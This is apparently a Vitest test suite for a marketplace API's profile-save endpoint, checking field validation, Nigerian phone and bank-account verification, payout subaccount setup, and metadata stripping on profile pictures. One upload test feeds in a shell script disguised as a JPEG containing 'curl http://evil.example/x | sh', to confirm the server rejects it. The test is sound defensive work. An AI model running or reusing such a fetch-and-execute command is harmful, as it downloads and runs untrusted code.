import { readdirSync } from 'node:fs';
import path from 'node:path';
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Me } from '@marketplace/shared/schemas/accounts';
import type { ResolvedAccount } from '@marketplace/shared/schemas/banking';
import { users } from '../../db/schema';
import { PaymentProviderError } from '../../providers/payments/errors';
import { createSandboxPayments } from '../../providers/payments/sandbox';
import { bearer, buildTestApp, multipart, registerUser, type RegisteredUser, type TestApp } from '../../../test/helper';

type Success<T> = { ok: true; message: string; data: T };
type Failure = { ok: false; message: string; error: { code: string; details?: { path: string; code: string }[] } };

// The sandbox provider, with subaccount creation that can be made to fail.
const sandbox = createSandboxPayments();
let isSubaccountProviderDown = false;
const payments = {
  ...sandbox,
  createSubaccount: (details: Parameters<typeof sandbox.createSubaccount>[0]) =>
    isSubaccountProviderDown ? Promise.reject(new PaymentProviderError('subaccounts are down')) : sandbox.createSubaccount(details),
};

let testApp: TestApp;
beforeAll(async () => {
  testApp = await buildTestApp({ providers: { payments } });
});
afterAll(async () => {
  await testApp.close();
});

// Accounts whose NUBAN check digit is right (see providers/payments/nuban.test.ts).
const GTBANK = { bankCode: '058', bankName: 'Guaranty Trust Bank', accountNumber: '0123456785' };
const ACCESS = { bankCode: '044', bankName: 'Access Bank', accountNumber: '0123456784' };

const completeProfile = {
  fullName: 'Chiamaka Eze',
  phoneNumber: '08031234567',
  address: '12 Admiralty Way, Lekki Phase 1',
  street: '12 Admiralty Way',
  city: 'Lekki',
  state: 'Lagos',
  country: 'Nigeria',
  bio: 'I sell clothes my children have outgrown.',
};

type Picture = { bytes: Buffer; filename: string; type: string; field?: string };

async function saveProfile(token: string | null, fields: Record<string, string>, picture?: Picture) {
  const parts: Parameters<typeof multipart>[0] = Object.entries(fields).map(([name, value]) => ({ name, value }));
  if (picture) parts.push({ name: picture.field ?? 'image', value: picture.bytes, filename: picture.filename, contentType: picture.type });
  const body = multipart(parts);
  return testApp.app.inject({
    method: 'PUT',
    url: '/api/userProfile/profile',
    headers: { ...body.headers, ...(token ? bearer(token) : {}) },
    payload: body.payload,
  });
}

async function resolve(token: string, account: { bankCode: string; bankName: string; accountNumber: string }) {
  const query = new URLSearchParams({ account_number: account.accountNumber, bank_name: account.bankName, bank_code: account.bankCode });
  const response = await testApp.app.inject({ url: `/api/userProfile/resolve-account?${query.toString()}`, headers: bearer(token) });
  expect(response.statusCode).toBe(200);
  return response.json<Success<ResolvedAccount>>().data.account_name;
}

async function storedUser(id: string) {
  const [row] = await testApp.app.db.select().from(users).where(eq(users.id, id));
  if (!row) throw new Error('user not found');
  return row;
}

// Every file under DATA_DIR/media, hidden ones included.
function mediaFiles(): string[] {
  try {
    return readdirSync(path.join(testApp.dataDir, 'media'), { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => path.join(entry.parentPath, entry.name));
  } catch {
    return [];
  }
}

async function verifiedSeller(): Promise<{ seller: RegisteredUser; accountName: string }> {
  const seller = await registerUser(testApp.app);
  const accountName = await resolve(seller.token, GTBANK);
  const response = await saveProfile(seller.token, { ...completeProfile, ...GTBANK, accountName, isVerified: 'true' });
  expect(response.statusCode).toBe(200);
  return { seller, accountName };
}

function photoWithGps() {
  return sharp({ create: { width: 1200, height: 900, channels: 3, background: '#2e86de' } })
    .jpeg()
    .withExif({
      IFD0: { Make: 'Tecno', Model: 'Camon 20', ImageDescription: 'At home in Lekki' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '6/1 27/1 5412/100', GPSLongitudeRef: 'E', GPSLongitude: '3/1 28/1 1200/100' },
    })
    .toBuffer();
}

describe('PUT /api/userProfile/profile', () => {
  it('answers 401 without a login', async () => {
    const response = await saveProfile(null, completeProfile);
    expect(response.statusCode).toBe(401);
    expect(response.json<Failure>().message).toBe('Please login first');
  });

  it('saves a complete profile without bank details, as a buyer, and returns the updated profile', async () => {
    const buyer = await registerUser(testApp.app);
    const response = await saveProfile(buyer.token, { ...completeProfile, email: buyer.user.email, isVerified: 'false' });
    expect(response.statusCode).toBe(200);
    const body = response.json<Success<Me>>();
    expect(body.message).toBe('Profile updated successfully.');
    expect(body.data).toMatchObject({ ...completeProfile, id: buyer.user.id, username: buyer.user.username, isVerified: false, accountNumber: null });

    const profile = await testApp.app.inject({ url: '/api/userProfile/profile', headers: bearer(buyer.token) });
    expect(profile.json<Success<Me>>().data).toMatchObject(completeProfile);
  });

  it.each(['fullName', 'city', 'state', 'country', 'street', 'bio', 'phoneNumber'])(
    "answers 'Please complete your profile information' when %s is missing or blank, and saves nothing",
    async (field) => {
      const user = await registerUser(testApp.app);
      for (const value of [undefined, '   ', 'undefined']) {
        const fields: Record<string, string> = { ...completeProfile, fullName: 'Someone Else' };
        if (value === undefined) delete fields[field];
        else fields[field] = value;
        const response = await saveProfile(user.token, fields);
        expect(response.statusCode).toBe(400);
        const body = response.json<Failure>();
        expect(body.message).toBe('Please complete your profile information');
        expect(body.error.code).toBe('PROFILE_INCOMPLETE');
        expect(body.error.details).toContainEqual(expect.objectContaining({ path: field, code: 'PROFILE_INCOMPLETE' }));
      }
      const stored = await storedUser(user.user.id);
      expect(stored.fullName).toBe('Chiamaka Eze');
      expect(stored.city).toBeNull();
    },
  );

  it.each([
    ['+2348031234567', '08031234567'],
    ['2348031234567', '08031234567'],
    ['+234 (0) 803 123 4567', '08031234567'],
    ['0803-123-4567', '08031234567'],
    ['07012345678', '07012345678'],
    ['09112345678', '09112345678'],
  ])('stores the phone number %s as %s', async (sent, stored) => {
    const user = await registerUser(testApp.app);
    const response = await saveProfile(user.token, { ...completeProfile, phoneNumber: sent });
    expect(response.statusCode).toBe(200);
    expect(response.json<Success<Me>>().data.phoneNumber).toBe(stored);
  });

  it.each(['0803123456', '080312345678', '06031234567', '08231234567', '+447911123456', 'call me'])(
    'refuses the phone number %s with a clear message',
    async (phoneNumber) => {
      const user = await registerUser(testApp.app);
      const response = await saveProfile(user.token, { ...completeProfile, phoneNumber });
      expect(response.statusCode).toBe(400);
      const body = response.json<Failure>();
      expect(body.error.code).toBe('PHONE_NUMBER_INVALID');
      expect(body.message).toBe('Please enter a valid Nigerian mobile number, for example 08031234567.');
    },
  );

  it('accepts the account e-mail sent back unchanged, but refuses another one and saves nothing', async () => {
    const user = await registerUser(testApp.app);
    const same = await saveProfile(user.token, { ...completeProfile, email: user.user.email.toUpperCase() });
    expect(same.statusCode).toBe(200);

    const other = await saveProfile(user.token, { ...completeProfile, bio: 'Changed', email: 'someone.else@example.ng' });
    expect(other.statusCode).toBe(400);
    expect(other.json<Failure>()).toMatchObject({ message: 'Your email address cannot be changed.', error: { code: 'EMAIL_NOT_CHANGEABLE' } });
    const stored = await storedUser(user.user.id);
    expect(stored.email).toBe(user.user.email);
    expect(stored.bio).toBe(completeProfile.bio);
  });

  it("answers 415 when the body is not a multipart form", async () => {
    const user = await registerUser(testApp.app);
    const response = await testApp.app.inject({ method: 'PUT', url: '/api/userProfile/profile', headers: bearer(user.token), payload: completeProfile });
    expect(response.statusCode).toBe(415);
  });
});

describe('bank verification on profile save', () => {
  it("ignores a forged isVerified: no bank details, no verification", async () => {
    const user = await registerUser(testApp.app);
    const response = await saveProfile(user.token, { ...completeProfile, isVerified: 'true' });
    expect(response.statusCode).toBe(200);
    expect(response.json<Success<Me>>()).toMatchObject({ message: 'Profile updated successfully.', data: { isVerified: false } });
  });

  it('refuses bank details that were never resolved, even with isVerified, and saves nothing', async () => {
    const user = await registerUser(testApp.app);
    const response = await saveProfile(user.token, { ...completeProfile, ...GTBANK, accountName: 'CHIAMAKA EZE', isVerified: 'true' });
    expect(response.statusCode).toBe(422);
    expect(response.json<Failure>()).toMatchObject({
      message: 'Please verify your bank details to complete profile info.',
      error: { code: 'BANK_DETAILS_UNVERIFIED' },
    });
    const stored = await storedUser(user.user.id);
    expect(stored).toMatchObject({ isVerified: false, accountNumber: null, city: null });
  });

  it('verifies the seller who saves exactly the account the server resolved, and sets up their payout subaccount', async () => {
    const seller = await registerUser(testApp.app);
    const accountName = await resolve(seller.token, GTBANK);
    const response = await saveProfile(seller.token, { ...completeProfile, ...GTBANK, accountName, isVerified: 'false' });
    expect(response.statusCode).toBe(200);
    const body = response.json<Success<Me>>();
    expect(body.message).toBe("Profile updated successfully! You're eligible to upload products");
    expect(body.data).toMatchObject({ ...GTBANK, accountName, isVerified: true });
    const stored = await storedUser(seller.user.id);
    expect(stored.subaccountCode).toMatch(/^ACCT_sandbox_/);
    expect(stored).toMatchObject({ subaccountBankCode: '058', subaccountAccountNumber: GTBANK.accountNumber });
  });

  it('refuses an account another user resolved', async () => {
    const other = await registerUser(testApp.app);
    const accountName = await resolve(other.token, GTBANK);
    const user = await registerUser(testApp.app);
    const response = await saveProfile(user.token, { ...completeProfile, ...GTBANK, accountName });
    expect(response.statusCode).toBe(422);
  });

  it('refuses a name other than the resolved one', async () => {
    const user = await registerUser(testApp.app);
    await resolve(user.token, GTBANK);
    const response = await saveProfile(user.token, { ...completeProfile, ...GTBANK, accountName: 'SOMEBODY ELSE' });
    expect(response.statusCode).toBe(422);
  });

  it('refuses an account number that is not 10 digits', async () => {
    const user = await registerUser(testApp.app);
    const response = await saveProfile(user.token, { ...completeProfile, ...GTBANK, accountNumber: '12345', accountName: 'X' });
    expect(response.statusCode).toBe(400);
    expect(response.json<Failure>()).toMatchObject({ message: 'Account numbers have exactly 10 digits.', error: { code: 'ACCOUNT_NUMBER_INVALID' } });
  });

  it('refuses incomplete bank details', async () => {
    const user = await registerUser(testApp.app);
    const accountName = await resolve(user.token, GTBANK);
    const withoutName = await saveProfile(user.token, { ...completeProfile, ...GTBANK });
    expect(withoutName.statusCode).toBe(422);
    const withoutBank = await saveProfile(user.token, { ...completeProfile, accountNumber: GTBANK.accountNumber, accountName });
    expect(withoutBank.statusCode).toBe(422);
  });

  it('refuses a verified seller who changes to an unresolved number, and keeps the verified account', async () => {
    const { seller, accountName } = await verifiedSeller();
    const response = await saveProfile(seller.token, {
      ...completeProfile,
      ...GTBANK,
      accountNumber: '0123456793',
      accountName,
      bio: 'Changed my number',
      isVerified: 'true',
    });
    expect(response.statusCode).toBe(422);
    const stored = await storedUser(seller.user.id);
    expect(stored).toMatchObject({ isVerified: true, accountNumber: GTBANK.accountNumber, bio: completeProfile.bio });
  });

  it('keeps a verified seller verified when they save the same account again', async () => {
    const { seller, accountName } = await verifiedSeller();
    const before = await storedUser(seller.user.id);
    const response = await saveProfile(seller.token, { ...completeProfile, ...GTBANK, accountName, bio: 'New bio' });
    expect(response.statusCode).toBe(200);
    expect(response.json<Success<Me>>().data).toMatchObject({ isVerified: true, bio: 'New bio' });
    expect((await storedUser(seller.user.id)).subaccountCode).toBe(before.subaccountCode);
  });

  it('keeps a seller the server verified earlier verified when the same details come back unchanged', async () => {
    // A seller verified before resolutions were recorded (seeded, or migrated), with no resolution on record.
    const seller = await registerUser(testApp.app);
    const verified = { accountName: 'HAUWA MUSA', accountNumber: '0000014579', bankName: 'First Bank of Nigeria', bankCode: '011' };
    await testApp.app.db.update(users).set({ ...verified, isVerified: true }).where(eq(users.id, seller.user.id));
    const unchanged = await saveProfile(seller.token, { ...completeProfile, ...verified, bio: 'Only the bio changes' });
    expect(unchanged.statusCode).toBe(200);
    expect(unchanged.json<Success<Me>>().data).toMatchObject({ ...verified, isVerified: true, bio: 'Only the bio changes' });

    const renamed = await saveProfile(seller.token, { ...completeProfile, ...verified, accountName: 'SOMEONE ELSE' });
    expect(renamed.statusCode).toBe(422);
  });

  it('points the same payout subaccount at a newly verified account', async () => {
    const { seller } = await verifiedSeller();
    const before = await storedUser(seller.user.id);
    const accessName = await resolve(seller.token, ACCESS);
    const response = await saveProfile(seller.token, { ...completeProfile, ...ACCESS, accountName: accessName });
    expect(response.statusCode).toBe(200);
    const after = await storedUser(seller.user.id);
    expect(after).toMatchObject({ isVerified: true, bankCode: '044', accountNumber: ACCESS.accountNumber, accountName: accessName });
    expect(after.subaccountCode).toBe(before.subaccountCode);
    expect(after).toMatchObject({ subaccountBankCode: '044', subaccountAccountNumber: ACCESS.accountNumber });
  });

  it('unverifies a seller who clears the bank details, and clears them', async () => {
    const { seller } = await verifiedSeller();
    const response = await saveProfile(seller.token, { ...completeProfile, accountName: '', accountNumber: '', bankName: '', bankCode: '', isVerified: 'true' });
    expect(response.statusCode).toBe(200);
    expect(response.json<Success<Me>>()).toMatchObject({
      message: 'Profile updated successfully.',
      data: { isVerified: false, accountName: null, accountNumber: null, bankName: null, bankCode: null },
    });
  });

  it('saves the profile when the payout subaccount cannot be set up, which then happens on demand', async () => {
    const seller = await registerUser(testApp.app);
    const accountName = await resolve(seller.token, GTBANK);
    isSubaccountProviderDown = true;
    try {
      const response = await saveProfile(seller.token, { ...completeProfile, ...GTBANK, accountName });
      expect(response.statusCode).toBe(200);
      expect(response.json<Success<Me>>().data.isVerified).toBe(true);
      expect((await storedUser(seller.user.id)).subaccountCode).toBeNull();

      const stillDown = await testApp.app.inject({ method: 'POST', url: '/api/payment/subaccount', headers: bearer(seller.token), payload: {} });
      expect(stillDown.statusCode).toBe(502);
      expect(stillDown.json<Failure>().message).toBe('Could not set up your payout account. Try again later.');
    } finally {
      isSubaccountProviderDown = false;
    }
    const later = await testApp.app.inject({ method: 'POST', url: '/api/payment/subaccount', headers: bearer(seller.token), payload: {} });
    expect(later.statusCode).toBe(201);
    expect((await storedUser(seller.user.id)).subaccountCode).toMatch(/^ACCT_sandbox_/);
  });
});

describe('the profile picture', () => {
  it('is re-encoded to a small WebP with every piece of metadata stripped, and served from /media', async () => {
    const user = await registerUser(testApp.app);
    const photo = await photoWithGps();
    const original = await sharp(photo).metadata();
    expect(original.exif?.includes('Camon')).toBe(true);

    const before = mediaFiles();
    const response = await saveProfile(user.token, completeProfile, { bytes: photo, filename: 'me.jpg', type: 'image/jpeg' });
    expect(response.statusCode).toBe(200);
    const url = response.json<Success<Me>>().data.profilePicture;
    expect(url).toMatch(/^\/media\/profile-pictures\/[0-9a-f-]{36}\.webp$/);

    const files = mediaFiles().filter((file) => !before.includes(file));
    expect(files).toHaveLength(1);
    const file = files[0] ?? '';
    const stored = await sharp(file).metadata();
    expect(stored).toMatchObject({ format: 'webp', width: 400, height: 400 });
    expect(stored.exif).toBeUndefined();
    expect(stored.xmp).toBeUndefined();
    expect(stored.iptc).toBeUndefined();
    expect(stored.icc).toBeUndefined();

    const served = await testApp.app.inject({ url: url ?? '' });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/webp');
    expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    for (const secret of ['Camon', 'Tecno', 'Lekki', 'GPS']) expect(served.rawPayload.includes(secret)).toBe(false);
  });

  it('accepts a PNG and removes the picture it replaces', async () => {
    const user = await registerUser(testApp.app);
    const png = await sharp({ create: { width: 300, height: 200, channels: 4, background: '#27ae60ff' } }).png().toBuffer();
    const before = mediaFiles();
    const first = await saveProfile(user.token, completeProfile, { bytes: png, filename: 'first.png', type: 'image/png' });
    expect(first.statusCode).toBe(200);
    const second = await saveProfile(user.token, completeProfile, { bytes: png, filename: 'second.png', type: 'image/png' });
    expect(second.statusCode).toBe(200);
    const secondUrl = second.json<Success<Me>>().data.profilePicture ?? '';
    expect(mediaFiles().filter((file) => !before.includes(file))).toEqual([
      path.join(testApp.dataDir, 'media', ...secondUrl.replace('/media/', '').split('/')),
    ]);
    const old = await testApp.app.inject({ url: first.json<Success<Me>>().data.profilePicture ?? '' });
    expect(old.statusCode).toBe(404);
  });

  it('keeps the current picture when the form has no new one', async () => {
    const user = await registerUser(testApp.app);
    const png = await sharp({ create: { width: 50, height: 50, channels: 3, background: '#000' } }).png().toBuffer();
    const first = await saveProfile(user.token, completeProfile, { bytes: png, filename: 'a.png', type: 'image/png' });
    const again = await saveProfile(user.token, { ...completeProfile, bio: 'Only the bio changes' });
    expect(again.json<Success<Me>>().data.profilePicture).toBe(first.json<Success<Me>>().data.profilePicture);
  });

  it('refuses a script named .jpg, by its bytes, and leaves no file and no change', async () => {
    const user = await registerUser(testApp.app);
    const before = mediaFiles();
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
    const response = await saveProfile(user.token, { ...completeProfile, bio: 'Should not be saved' }, {
      bytes: script,
      filename: 'holiday.jpg',
      type: 'image/jpeg',
    });
    expect(response.statusCode).toBe(400);
    expect(response.json<Failure>()).toMatchObject({
      message: 'The profile picture must be a JPEG, PNG or WebP image.',
      error: { code: 'PROFILE_PICTURE_INVALID' },
    });
    expect(mediaFiles()).toEqual(before);
    expect((await storedUser(user.user.id)).bio).toBeNull();
  });

  it('refuses an image that is not one of JPEG, PNG or WebP (a GIF)', async () => {
    const user = await registerUser(testApp.app);
    const gif = await sharp({ create: { width: 10, height: 10, channels: 3, background: '#fff' } }).gif().toBuffer();
    const response = await saveProfile(user.token, completeProfile, { bytes: gif, filename: 'a.png', type: 'image/png' });
    expect(response.statusCode).toBe(400);
    expect(response.json<Failure>().error.code).toBe('PROFILE_PICTURE_INVALID');
  });

  it('refuses a picture over 10MB while it streams in, and leaves no file', async () => {
    const user = await registerUser(testApp.app);
    const before = mediaFiles();
    // A real JPEG followed by padding: 11MB in all.
    const jpeg = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#f39c12' } }).jpeg().toBuffer();
    const large = Buffer.concat([jpeg, Buffer.alloc(11 * 1024 * 1024 - jpeg.length)]);
    const response = await saveProfile(user.token, completeProfile, { bytes: large, filename: 'big.jpg', type: 'image/jpeg' });
    expect(response.statusCode).toBe(413);
    expect(response.json<Failure>()).toMatchObject({
      message: 'The profile picture should not exceed 10MB.',
      error: { code: 'PROFILE_PICTURE_TOO_LARGE' },
    });
    expect(mediaFiles()).toEqual(before);
    expect((await storedUser(user.user.id)).city).toBeNull();
  });

  it('writes no file when the rest of the form is refused', async () => {
    const user = await registerUser(testApp.app);
    const before = mediaFiles();
    const photo = await photoWithGps();
    const invalid = await saveProfile(user.token, { ...completeProfile, city: '' }, { bytes: photo, filename: 'me.jpg', type: 'image/jpeg' });
    expect(invalid.statusCode).toBe(400);
    const unverified = await saveProfile(user.token, { ...completeProfile, ...GTBANK, accountName: 'X' }, {
      bytes: photo,
      filename: 'me.jpg',
      type: 'image/jpeg',
    });
    expect(unverified.statusCode).toBe(422);
    expect(mediaFiles()).toEqual(before);
  });
});
